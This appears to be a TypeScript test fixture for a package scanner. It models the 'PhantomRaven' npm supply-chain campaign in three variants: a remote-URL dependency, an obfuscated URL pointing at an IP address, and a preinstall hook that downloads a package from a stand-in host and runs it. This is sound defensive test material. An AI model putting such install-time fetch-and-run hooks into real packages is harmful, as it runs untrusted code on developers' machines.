import { type Campaign, manifest, scripted } from './kit.ts';

export const campaign: Campaign = {
  id: 'phantom-raven',
  row: 'PhantomRaven 8–10/2025',
  variants: [
    {
      concealment: 'plain',
      files: {
        'package.json': manifest({
          dependencies: { 'ui-styles-pkg': 'http://packages.storage.weir.test/npm/unused-imports' },
        }),
        'index.js': 'module.exports = {};\n',
      },
    },
    {
      concealment: 'obfuscated',
      files: {
        'package.json': manifest({ dependencies: { lodash: 'http://192.0.2.44:8080/\u006eode/l.tgz' } }),
        'index.js': 'module.exports = {};\n',
      },
    },
    {
      concealment: 'moved',
      files: scripted({
        preinstall:
          'npm install --no-save --no-package-lock http://packages.storage.weir.test/npm/unused-imports && node node_modules/unused-imports/index.js',
      }),
    },
  ],
};
